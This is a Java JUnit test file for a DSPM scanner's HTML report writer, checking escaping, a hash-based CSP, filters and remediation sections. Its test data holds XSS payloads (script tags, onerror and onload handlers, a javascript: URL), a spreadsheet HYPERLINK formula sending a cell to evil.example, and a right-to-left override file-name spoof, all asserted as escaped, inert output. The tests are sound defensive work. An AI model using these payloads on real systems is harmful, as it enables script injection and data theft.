package dev.dspm.scanner.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.StringWriter;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Test;

import dev.dspm.scanner.findings.FindingStatus;
import dev.dspm.scanner.policy.Severity;
import dev.dspm.scanner.remediation.ActionStatus;
import dev.dspm.scanner.report.ReportOverview.StatusCounts;
import dev.dspm.scanner.report.ReportSamples.Sample;

/** report.html as written for hostile tenant text: inert, self-contained, and saying what the model says. */
class HtmlReportTests {

    private static final Pattern TAG = Pattern.compile("<[a-zA-Z][^>]*>");
    /** The only links the page has: to the report's other files, beside it. */
    private static final Pattern RELATIVE_LINK = Pattern.compile("<a href=\"report\\.(csv|json)\">");

    @Test
    void hostileNamesAreWrittenAsTextAndNoneBecomesMarkup() throws IOException {
        String page = render(ReportSamples.hostile(60), 10_000);

        assertThat(count(page, "<script")).as("only the page's own script").isEqualTo(1);
        assertThat(page).doesNotContain("<img", "<svg onload", "<b>", "<i>");
        for (String tag : tags(page)) {
            if (RELATIVE_LINK.matcher(tag).matches()) {
                continue; // the page's own links to the files beside it
            }
            String names = tag.replaceAll("\"[^\"]*\"", "\"\"");
            assertThat(names).as(tag).doesNotContainPattern("(?i)\\s(on[a-z]+|href|src|style|srcset|action|formaction)\\s*=");
        }
        assertThat(page).contains("&lt;script&gt;window.__pwned=1&lt;/script&gt;",
                "&lt;img src=x onerror=window.__pwned=1&gt;", "&quot;&gt;&lt;svg onload=window.__pwned=1&gt;",
                "<bdi>javascript:window.__pwned=1</bdi>",
                "<bdi>=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1,&quot;Click&quot;)</bdi>",
                "<bdi>owner&#39;&quot;&lt;b&gt;&amp;amp;</bdi>",
                "data-uid=\"uid&quot;&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt;\"",
                "UNKNOWN <span class=\"raw\"><bdi>SHARE_SCOPE_&lt;script&gt;window.__pwned=1&lt;/script&gt;</bdi></span>",
                "acme &lt;i&gt;corp&lt;/i&gt; &amp; &quot;co&quot;",
                "title=\"&lt;img src=x onerror=window.__pwned=1&gt;\"",
                "<bdi>ciso@acme.example &amp; &lt;b&gt;</bdi>");
    }

    @Test
    void controlCharactersAreVisibleAndNeverRaw() throws IOException {
        String page = render(ReportSamples.hostile(60), 10_000);

        assertThat(page).contains("<bdi>tab\u2409here\u240Aline\u2400nul\u241B[31mred[U+0085]nel\u2421 del evil[U+202E]fdp.exe</bdi>");
        assertThat(page.chars().filter(c -> c < 0x20 && c != '\n' || c >= 0x7F && c <= 0x9F || c >= 0x202A && c <= 0x202E))
                .isEmpty();
    }

    @Test
    void rightToLeftCjkAndEmojiNamesAreIsolatedAndIntact() throws IOException {
        String page = render(ReportSamples.hostile(60), 10_000);

        for (String name : List.of(ReportSamples.ARABIC_NAME, ReportSamples.HEBREW_NAME, ReportSamples.CJK_NAME,
                ReportSamples.EMOJI_NAME)) {
            assertThat(page).contains("<bdi>" + name + "</bdi>");
        }
        assertThat(page).contains("<html lang=\"en\">", "<meta charset=\"utf-8\">");
    }

    @Test
    void aLongNameIsCutForDisplayWithTheFullValueBoundedInItsTooltip() throws IOException {
        String page = render(ReportSamples.hostile(60), 10_000);

        String shown = ReportSamples.LONG_NAME.substring(0, 81);
        assertThat(shown.codePointCount(0, shown.length())).isEqualTo(80);
        String tooltip = ReportSamples.LONG_NAME.substring(0, ReportSamples.LONG_NAME.offsetByCodePoints(0, 2_000));
        assertThat(page).contains("<bdi title=\"" + tooltip + "\u2026\">" + shown + "\u2026</bdi>");
        assertThat(page).doesNotContain(ReportSamples.LONG_NAME.substring(0, 2_100));
    }

    @Test
    void theCspAllowsExactlyTheInlinedScriptAndStyleAndLoadsNothing() throws Exception {
        String page = render(ReportSamples.hostile(60), 10_000);

        String csp = between(page, "<meta http-equiv=\"Content-Security-Policy\" content=\"", "\">");
        String script = between(page, "<script>", "</script>");
        String style = between(page, "<style>", "</style>");
        assertThat(csp).isEqualTo("default-src 'none'; script-src 'sha256-" + sha256(script) + "'; style-src 'sha256-"
                + sha256(style) + "'; base-uri 'none'; form-action 'none'");
        assertThat(csp).doesNotContain("unsafe");
        assertThat(page.indexOf("Content-Security-Policy")).isLessThan(page.indexOf("<style>"));
        assertThat(count(page, "<style")).isEqualTo(1);
    }

    /** The page's own markup, script and style (attribute values and text are escaped tenant text, shown above). */
    @Test
    void thePageReferencesNothingOutsideItself() throws IOException {
        String page = render(ReportSamples.hostile(60), 10_000);
        assertThat(tags(page).stream().filter(tag -> tag.contains("href="))).as("links only to the files beside the page")
                .isNotEmpty().allMatch(tag -> RELATIVE_LINK.matcher(tag).matches());
        String markup = String.join("", tags(page).stream().filter(tag -> !RELATIVE_LINK.matcher(tag).matches()).toList())
                .replaceAll("\"[^\"]*\"", "\"\"") + HtmlAssets.SCRIPT.source()
                + HtmlAssets.STYLE.source() + HtmlAssets.contentSecurityPolicy();

        assertThat(markup.toLowerCase(Locale.ROOT)).doesNotContain("http:", "https:", "src=", "href=", "<link",
                "@import", "url(", "@font-face", "<iframe", "<object", "<embed", "<form");
        assertThat(page).doesNotContain("<link", "<base");
        assertThat(page).containsOnlyOnce("<script>").containsOnlyOnce("<style>");
    }

    @Test
    void oneRowPerFindingInTheTableWithFilterOptionsCountedOverTheRun() throws IOException {
        Sample sample = ReportSamples.hostile(60);
        String page = render(sample, 10_000);

        String table = between(page, "<table id=\"findings\">", "</table>");
        assertThat(count(table, "<tr data-uid=\"")).isEqualTo(60);
        assertThat(page).contains("<output id=\"shown-count\" aria-live=\"polite\" data-findings=\"60\">60 of 60 rows shown</output>");
        for (String sort : List.of("severity", "status", "policy", "type", "name", "owner", "first-seen")) {
            assertThat(table).contains("<button type=\"button\" data-sort=\"" + sort + "\">");
        }
        assertThat(between(page, "<select id=\"filter-severity\">", "</select>")).isEqualTo("<option value=\"\">all</option>"
                + "<option value=\"CRITICAL\">CRITICAL (15)</option><option value=\"HIGH\">HIGH (15)</option>"
                + "<option value=\"MEDIUM\">MEDIUM (15)</option><option value=\"LOW\">LOW (15)</option>");
        assertThat(between(page, "<select id=\"filter-owner\">", "</select>"))
                .startsWith("<option value=\"\">all</option>")
                .contains("<option value=\"owner&#39;&quot;&lt;b&gt;&amp;amp;\">owner&#39;&quot;&lt;b&gt;&amp;amp; (20)</option>",
                        "<option value=\"owner-2@acme.example\">owner-2@acme.example (",
                        "<option value=\"=HYPERLINK(&quot;x&quot;)&lt;img src=x onerror=window.__pwned=1&gt;@acme.example\">");
        assertThat(between(page, "<select id=\"filter-owner-status\">", "</select>")).matches("<option value=\"\">all</option>"
                + "<option value=\"ACTIVE\">ACTIVE \\(\\d+\\)</option><option value=\"INACTIVE\">INACTIVE \\(\\d+\\)</option>");
        assertThat(page).contains("<input id=\"search\"", "<select id=\"filter-status\">", "<select id=\"filter-policy\">",
                "<select id=\"filter-type\">");
        assertThat(between(page, "<p id=\"table-scope\" class=\"more\">", "</p>")).isEqualTo("<strong>60 of 60 findings shown: "
                + "the most severe first</strong> (then NEW, OPEN, EXCEPTED, RESOLVED). The same findings are in "
                + "<a href=\"report.csv\">report.csv</a> and <a href=\"report.json\">report.json</a> beside this page.");
        assertThat(page).doesNotContain("id=\"headline-table-scope\"");
    }

    /**
     * 250 findings and a table of 100: the worst 100 are all CRITICAL or HIGH, yet every filter offers, and counts,
     * what the whole run has (MEDIUM, LOW, their policies and types, every owner), and the page says, at the top of
     * the findings and under the headline, which part it shows and where the rest is.
     */
    @Test
    void aCappedTableOffersAndCountsTheWholeRunAndSaysAtTheTopWhichPartItShows() throws IOException {
        Sample sample = ReportSamples.hostile(250);
        List<ReportedFinding> shown = sample.rows().subList(0, 100);
        assertThat(shown).allMatch(f -> f.severity().compareTo(Severity.HIGH) >= 0);
        String page = write(new HtmlReport(100), sample, shown);

        assertThat(count(between(page, "<table id=\"findings\">", "</table>"), "<tr data-uid=")).isEqualTo(100);
        String scope = between(page, "<p id=\"table-scope\" class=\"more\">", "</p>");
        assertThat(scope).isEqualTo("<strong>100 of 250 findings shown: the most severe first</strong> (then NEW, OPEN, "
                + "EXCEPTED, RESOLVED). The other 150 (dspm.report.html-max-rows is 100) are in <a href=\"report.csv\">"
                + "report.csv</a> and <a href=\"report.json\">report.json</a> beside this page, which hold every finding. "
                + "The filters offer and count the values of all 250: one whose findings are all beyond the table shows no "
                + "row here.");
        assertThat(page.indexOf("<h2>Findings</h2>")).as("the note opens the findings section, above filters and table")
                .isLessThan(page.indexOf("id=\"table-scope\"")).isLessThan(page.indexOf("<div class=\"filters\""))
                .isLessThan(page.indexOf("<table id=\"findings\">"));
        assertThat(page).contains("<output id=\"shown-count\" aria-live=\"polite\" data-findings=\"250\">100 of 100 rows shown; "
                + "the table holds 100 of the run\u2019s 250 findings</output>").doesNotContain("id=\"more-rows\"");
        assertThat(between(page, "<section id=\"headline\">", "</section>")).contains("<p id=\"headline-table-scope\" "
                + "class=\"more\">The findings table below shows 100 of 250 findings, the most severe first; all 250 are in "
                + "<a href=\"report.csv\">report.csv</a> and <a href=\"report.json\">report.json</a> beside this page. "
                + "The counts here are the whole run\u2019s.</p>");

        assertThat(between(page, "<select id=\"filter-severity\">", "</select>")).isEqualTo("<option value=\"\">all</option>"
                + "<option value=\"CRITICAL\">CRITICAL (63)</option><option value=\"HIGH\">HIGH (63)</option>"
                + "<option value=\"MEDIUM\">MEDIUM (62)</option><option value=\"LOW\">LOW (62)</option>");
        assertThat(between(page, "<select id=\"filter-policy\">", "</select>")).contains(
                "<option value=\"unknown-scope\">unknown-scope (62)</option>",
                "<option value=\"public-website-publish\">public-website-publish (62)</option>");
        assertThat(between(page, "<select id=\"filter-status\">", "</select>")).isEqualTo("<option value=\"\">all</option>"
                + "<option value=\"NEW\">NEW (63)</option><option value=\"OPEN\">OPEN (63)</option>"
                + "<option value=\"RESOLVED\">RESOLVED (62)</option><option value=\"EXCEPTED\">EXCEPTED (62)</option>");
        String owners = between(page, "<select id=\"filter-owner\">", "</select>");
        for (ReportedFinding f : sample.rows()) {
            String owner = f.ownerEmail() != null ? f.ownerEmail() : f.ownerId();
            assertThat(owners).as("every owner of the run").contains(">" + escaped(owner) + " (");
        }
    }

    @Test
    void rowsBeyondMaxRowsAreNotShown() throws IOException {
        Sample sample = ReportSamples.hostile(30);
        String page = write(new HtmlReport(10), sample, sample.rows());

        assertThat(count(between(page, "<table id=\"findings\">", "</table>"), "<tr data-uid=")).isEqualTo(10);
        assertThat(page).contains("10 of 30 findings shown", "The other 20 (dspm.report.html-max-rows is 10)");
        assertThatThrownBy(() -> new HtmlReport(-1)).hasMessageContaining("dspm.report.html-max-rows");
    }

    @Test
    void theHeadlineCountsAreTheOverviews() throws IOException {
        Sample sample = ReportSamples.hostile(60);
        String page = render(sample, 10_000);

        long fresh = 0, open = 0, excepted = 0, resolved = 0;
        for (Severity severity : Severity.values()) {
            StatusCounts c = sample.overview().bySeverity().get(severity);
            fresh += c.fresh();
            open += c.open();
            excepted += c.excepted();
            resolved += c.resolved();
            String row = between(page, "<tr data-severity=\"" + severity + "\">", "</tr>");
            assertThat(numbers(row)).as(severity.name()).containsExactly(c.fresh(), c.open(), c.excepted(), c.resolved());
        }
        assertThat(fresh).isEqualTo(sample.rows().stream().filter(f -> f.status() == FindingStatus.NEW).count()).isPositive();
        assertThat(tile(page, "tile-new")).isEqualTo(fresh);
        assertThat(tile(page, "tile-resolved")).isEqualTo(resolved).isPositive();
        assertThat(tile(page, "tile-open")).isEqualTo(fresh + open);
        assertThat(tile(page, "tile-excepted")).isEqualTo(excepted);
        assertThat(tile(page, "tile-waivers")).isEqualTo(2);
        assertThat(page).contains("<span id=\"waivers-expired\">1</span> expired, <span id=\"waivers-unused\">1</span> unused");
        String types = between(page, "<table id=\"by-type\">", "</table>");
        assertThat(types).contains("<tr><th>FILE_SHARE</th><td class=\"num\">1,000</td><td class=\"num\">1,000</td><td>yes</td></tr>",
                "<tr><th>SESSION_COLLABORATION</th><td class=\"num\">0</td><td class=\"num\">\u2014</td><td>-</td></tr>");
    }

    @Test
    void whatChangedComesFirstAndSaysHowManyMoreThanItLists() throws IOException {
        Sample sample = ReportSamples.hostile(60);
        String page = render(sample, 10_000);

        assertThat(page.indexOf("id=\"changes\"")).isLessThan(page.indexOf("id=\"headline\""))
                .isLessThan(page.indexOf("id=\"findings\""));
        Changes changes = sample.changes();
        assertThat(count(between(page, "<table id=\"changes-new\">", "</table>"), "<tr data-uid=")).isEqualTo(5);
        assertThat(count(between(page, "<table id=\"changes-resolved\">", "</table>"), "<tr data-uid=")).isEqualTo(5);
        assertThat(page).contains("<p class=\"more\">and " + (changes.newCount() - 5) + " more (report.json / report.csv)</p>",
                "<p class=\"more\">and " + (changes.resolvedCount() - 5) + " more (report.json / report.csv)</p>",
                "<p class=\"more\">and 3 more (report.json / report.csv)</p>",
                "<td class=\"scope\"><bdi>TEAM_ONLY</bdi> \u2192 <strong><bdi>PUBLIC</bdi></strong></td>",
                "Compared with run 6: " + changes.newCount() + " new, " + changes.resolvedCount() + " resolved, 5 shares");
        assertThat(page).doesNotContain("id=\"first-run\"");
    }

    @Test
    void aFirstRunSaysEveryFindingIsNew() throws IOException {
        Sample sample = ReportSamples.firstRun(12);
        String page = render(sample, 10_000);

        assertThat(page).contains("<p id=\"first-run\">First run for this tenant: there is no previous run to compare"
                + " with, so every finding is new (12). They are all in the findings table below.</p>",
                "<dt>Compared with</dt><dd>no previous run</dd>");
        assertThat(page).as("no list of every finding above the headline")
                .doesNotContain("changes-new", "changes-resolved", "changes-widened", "Compared with run");
        assertThat(page).contains("<svg class=\"chart\" id=\"chart-history\"");
        assertThat(count(page, "<circle")).isEqualTo(1);
    }

    @Test
    void theHeaderNamesTenantRunAndStartAndAnIncompleteSnapshotIsBannered() throws IOException {
        String complete = render(ReportSamples.hostile(20), 10_000);
        assertThat(complete).contains("<title>DSPM report \u2014 acme &lt;i&gt;corp&lt;/i&gt; &amp; &quot;co&quot;",
                "<dd id=\"run-id\">7</dd>", "<dd id=\"scan-start\">2026-05-04T06:00:00Z</dd>");
        assertThat(complete).doesNotContain("id=\"incomplete\"");

        String incomplete = render(ReportSamples.incomplete(20), 10_000);
        assertThat(between(incomplete, "<p class=\"banner\" id=\"incomplete\" role=\"alert\">", "</p>"))
                .contains("INCOMPLETE", "FILE_SHARE, SESSION_COLLABORATION", "could not be resolved")
                .doesNotContain("PROJECT_SHARE");
        assertThat(between(incomplete, "<table id=\"by-type\">", "</table>"))
                .contains("<tr><th>FILE_SHARE</th><td class=\"num\">1,000</td><td class=\"num\">1,500</td><td><strong class=\"bad\">NO</strong></td></tr>");
    }

    @Test
    void waiversAndPoliciesAreListed() throws IOException {
        Sample sample = ReportSamples.hostile(60);
        String page = render(sample, 10_000);

        String waivers = between(page, "<table id=\"waivers\">", "</table>");
        assertThat(count(waivers, "<tr><td>")).isEqualTo(3);
        assertThat(waivers).contains("<strong class=\"bad\">expired</strong>", "(unused)", "2026-06-03");
        String policies = between(page, "<table id=\"policies\">", "</table>");
        assertThat(count(policies, "<tr data-policy=")).isEqualTo(sample.overview().byPolicy().size());
        assertThat(policies).contains("Share whose scope is missing or unknown &lt;b&gt;&amp;");
    }

    @Test
    void theOwnersSectionSaysWhatTheRunKnewAndWhoHasTheMostOpenFindings() throws IOException {
        String page = render(ReportSamples.hostile(60), 10_000);

        assertThat(between(page, "<p id=\"owners-enrichment\">", "</p>")).isEqualTo("812 members listed; 2 owner ids of 5 "
                + "shares match no member, so their owner is unknown (<bdi>owner&#39;&quot;&lt;b&gt;&amp;amp;</bdi>, "
                + "<bdi>u-404</bdi>).");
        String top = between(page, "<table id=\"top-owners\">", "</table>");
        assertThat(count(top, "<tr><td>")).isEqualTo(3);
        assertThat(top).contains("<tr><td><span title=\"u-2\"><bdi>ann@acme.example</bdi></span></td><td>INACTIVE</td>"
                + "<td class=\"num\">4</td><td class=\"num\">0</td><td class=\"num\">4</td></tr>",
                "&lt;img src=x onerror=window.__pwned=1&gt;@acme.example",
                "<tr><td><bdi>owner&#39;&quot;&lt;b&gt;&amp;amp;</bdi></td><td><span class=\"muted\">unknown</span></td>");
    }

    @Test
    void withoutEnrichmentTheOwnersSectionSaysHowToTurnItOn() throws IOException {
        Sample sample = ReportSamples.hostile(10);
        ReportOverview overview = sample.overview();
        ReportOverview notEnriched = new ReportOverview(overview.run(), overview.types(), overview.bySeverity(),
                overview.byPolicy(), overview.waivers(), overview.exposure(), overview.history(), overview.findings(),
                new OwnerOverview(false, 0, 0, false, 0, 0, List.of(), List.of()), overview.choices(),
                overview.failedRules());
        String page = render(new Sample(notEnriched, sample.changes(), sample.remediation(), sample.rows()), 10_000);

        assertThat(between(page, "<p id=\"owners-enrichment\">", "</p>")).startsWith("Owners were not enriched: set "
                + "MANUS_USER_MGMT_KEY");
        assertThat(page).doesNotContain("<table id=\"top-owners\">");
    }

    @Test
    void theRemediationSectionListsWhatFailedFirstWithItsErrorAndEscapesEveryText() throws IOException {
        Sample sample = ReportSamples.hostile(60);
        String page = render(sample, 10_000);

        assertThat(List.of("id=\"changes\"", "id=\"headline\"", "id=\"chart-", "id=\"remediation\"", "id=\"owners-section\"",
                "id=\"findings-section\"", "id=\"waivers\"", "id=\"policies\"").stream().map(page::indexOf).toList())
                .as("the README's order: what changed, the headline, the charts, then the plan, the owners and the findings")
                .allMatch(i -> i >= 0).isSorted();
        String section = between(page, "<section id=\"remediation\">", "</section>");
        assertThat(section).doesNotContain("<script", "<img", "<b>");
        assertThat(between(section, "<p class=\"banner\" id=\"held-back\" role=\"alert\" data-guardrail=\"PERMISSION_DENIED\">",
                "</p>")).isEqualTo("<strong>Remediation held back.</strong> the plan has 1,000 actions, more than "
                        + "dspm.remediation.max-actions=50 &lt;b&gt;&amp;amp;&lt;/b&gt;");
        RemediationOverview remediation = sample.remediation();
        for (ActionStatus status : ActionStatus.values()) {
            String id = status.name().toLowerCase(Locale.ROOT).replace('_', '-');
            assertThat(between(section, "<dd id=\"remediation-" + id + "\">", "</dd>")).as(status.name())
                    .isEqualTo(String.valueOf(remediation.count(status)));
        }
        assertThat(between(section, "<ul id=\"skipped-reasons\">", "</ul>")).contains(
                "<li data-reason=\"WAIVED\"><strong>8 waived</strong>: ", "<strong>4 grace period</strong>",
                "<strong>2 permission denied</strong>").doesNotContain("ALREADY_TIGHT", "stale");

        String table = between(section, "<table id=\"remediation-actions\">", "</table>");
        List<String> statuses = new ArrayList<>();
        Matcher m = Pattern.compile("data-status=\"([A-Z_]+)\"").matcher(table);
        while (m.find()) {
            statuses.add(m.group(1));
        }
        assertThat(statuses).as("failed first, then in flight, applied, planned").hasSize(remediation.listed().size())
                .isSortedAccordingTo(java.util.Comparator.comparing(s -> RemediationOverview.LISTED_ORDER.indexOf(ActionStatus.valueOf(s))))
                .contains("FAILED", "IN_FLIGHT", "APPLIED", "PLANNED");
        assertThat(table).contains(
                "<tr data-uid=\"uid&quot;&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt;\" data-status=\"FAILED\">",
                "<td class=\"outcome\"><bdi class=\"bad\">invalid_argument: &lt;img src=x onerror=window.__pwned=1&gt; "
                        + "&quot;scope&quot; &amp; more (HTTP 400)</bdi></td>",
                "<td class=\"audit-note\"><bdi>&lt;script&gt;window.__pwned=1&lt;/script&gt; CHG-1 &amp; dspm-scanner run 7: ",
                "<td class=\"name\"><bdi>&lt;script&gt;window.__pwned=1&lt;/script&gt;</bdi></td>",
                "<td class=\"name\"><bdi>&lt;script&gt;window.__pwned=1&lt;/script&gt;</bdi></td><td>"
                        + "<bdi>owner&#39;&quot;&lt;b&gt;&amp;amp;</bdi></td>", "request_id <bdi>req-", "outcome unknown",
                // as the findings table shows an owner: the email the run matched, the id on hover
                "<td><span title=\"owner-1\"><bdi>=HYPERLINK(&quot;x&quot;)&lt;img src=x onerror=window.__pwned=1&gt;"
                        + "@acme.example</bdi></span></td>",
                "<td><span title=\"owner-2\"><bdi>owner-2@acme.example</bdi></span></td>", "<td><bdi>owner-3</bdi></td>",
                "<td class=\"scope\">PUBLIC \u2192 <strong>TEAM_ONLY</strong></td>");
        assertThat(section).contains("<p class=\"more\" id=\"more-actions\">and " + ReportSamples.UNLISTED_ACTIONS
                + " more in remediation.csv</p>", "<strong>Apply mode</strong>");
        assertThat(between(page, "<div class=\"tile\" id=\"tile-remediation\">", "</div>")).isEqualTo(
                "<span class=\"value\">" + remediation.count(ActionStatus.PLANNED) + "</span><span class=\"label\">"
                        + "remediations planned, <span id=\"remediation-applied-count\">" + remediation.count(ActionStatus.APPLIED)
                        + "</span> applied, <strong class=\"bad\">" + remediation.count(ActionStatus.FAILED)
                        + " failed</strong> (held back)</span>");
    }

    @Test
    void aPlanSaysNothingWasChangedHowToApplyItAndWhatWouldHoldAnApplyBack() throws IOException {
        String plan = between(render(ReportSamples.firstRun(12), 10_000), "<section id=\"remediation\">", "</section>");
        assertThat(plan).contains("<strong>Plan mode: nothing was changed in the tenant.</strong>",
                "<code>--dspm.remediation.mode=apply --dspm.remediation.approved-plan=7</code>")
                .doesNotContain("id=\"held-back\"", "data-status=\"APPLIED\"");

        String heldBack = render(ReportSamples.incomplete(12), 10_000);
        assertThat(between(heldBack, "<p class=\"banner\" id=\"held-back\" role=\"alert\" data-guardrail=\"INCOMPLETE_SCAN\">",
                "</p>")).startsWith("<strong>An apply of this plan would be held back.</strong> the plan has 1,000 actions");
    }

    @Test
    void remediationOffSaysSoAndListsNothing() throws IOException {
        String page = render(ReportSamples.remediationOff(12), 10_000);

        assertThat(between(page, "<section id=\"remediation\">", "</section>")).contains(
                "Remediation is off (dspm.remediation.mode=off): no plan was made and nothing was changed.")
                .doesNotContain("<table", "remediation-counts", "held-back");
        assertThat(between(page, "<div class=\"tile\" id=\"tile-remediation\">", "</div>")).endsWith(" applied (off)</span>");
    }

    @Test
    void tenThousandRowsAreStreamedInSmallWrites() throws IOException {
        Sample sample = ReportSamples.hostile(10_000);
        LargestWrite out = new LargestWrite();
        new HtmlReport(10_000).write(out, sample.overview(), sample.changes(), sample.remediation(), sample.rows());

        assertThat(out.total).isGreaterThan(1_000_000);
        assertThat(out.largest).as("no write holds the page, only a piece of it")
                .isLessThan(Math.max(HtmlAssets.SCRIPT.source().length(), HtmlAssets.STYLE.source().length()) + 100);
    }

    @Test
    void theInlinedAssetsAreAsciiAndCannotEndTheirElement() {
        for (String source : List.of(HtmlAssets.SCRIPT.source(), HtmlAssets.STYLE.source())) {
            assertThat(source.chars()).allMatch(c -> c < 0x80);
            assertThat(source.toLowerCase(Locale.ROOT)).doesNotContain("</script", "</style", "<!--", "http");
        }
        assertThat(HtmlAssets.SCRIPT.source()).doesNotContain("innerHTML", "eval(", "document.write");
    }

    static String render(Sample sample, int maxRows) throws IOException {
        List<ReportedFinding> rows = sample.rows();
        return write(new HtmlReport(maxRows), sample, rows.subList(0, Math.min(maxRows, rows.size())));
    }

    private static String write(HtmlReport report, Sample sample, List<ReportedFinding> rows) throws IOException {
        StringWriter out = new StringWriter();
        report.write(out, sample.overview(), sample.changes(), sample.remediation(), rows);
        return out.toString();
    }

    private static long tile(String page, String id) {
        return Long.parseLong(between(page, "<div class=\"tile\" id=\"" + id + "\"><span class=\"value\">", "</span>")
                .replace(",", ""));
    }

    private static List<Long> numbers(String markup) {
        List<Long> numbers = new ArrayList<>();
        Matcher m = Pattern.compile(">([0-9][0-9,]*)<").matcher(markup);
        while (m.find()) {
            numbers.add(Long.parseLong(m.group(1).replace(",", "")));
        }
        return numbers;
    }

    private static List<String> tags(String page) {
        List<String> tags = new ArrayList<>();
        Matcher m = TAG.matcher(page.replace(HtmlAssets.SCRIPT.source(), "").replace(HtmlAssets.STYLE.source(), ""));
        while (m.find()) {
            tags.add(m.group());
        }
        assertThat(tags).hasSizeGreaterThan(100);
        return tags;
    }

    static String between(String text, String start, String end) {
        int from = text.indexOf(start);
        assertThat(from).as("'%s' in the page", start).isNotNegative();
        from += start.length();
        int to = text.indexOf(end, from);
        assertThat(to).as("'%s' after '%s'", end, start).isNotNegative();
        return text.substring(from, to);
    }

    private static String escaped(String text) throws IOException {
        StringWriter out = new StringWriter();
        new Html(out).text(text);
        return out.toString();
    }

    private static int count(String text, String part) {
        int count = 0;
        for (int i = text.indexOf(part); i >= 0; i = text.indexOf(part, i + part.length())) {
            count++;
        }
        return count;
    }

    private static String sha256(String text) throws Exception {
        return Base64.getEncoder().encodeToString(MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8)));
    }

    /** Remembers the largest single write: a page built whole in memory would arrive as one. */
    private static final class LargestWrite extends Writer {
        long total;
        int largest;

        @Override
        public void write(char[] buffer, int offset, int length) {
            total += length;
            largest = Math.max(largest, length);
        }

        @Override
        public void write(String text, int offset, int length) {
            total += length;
            largest = Math.max(largest, length);
        }

        @Override
        public void flush() {
        }

        @Override
        public void close() {
        }
    }
}
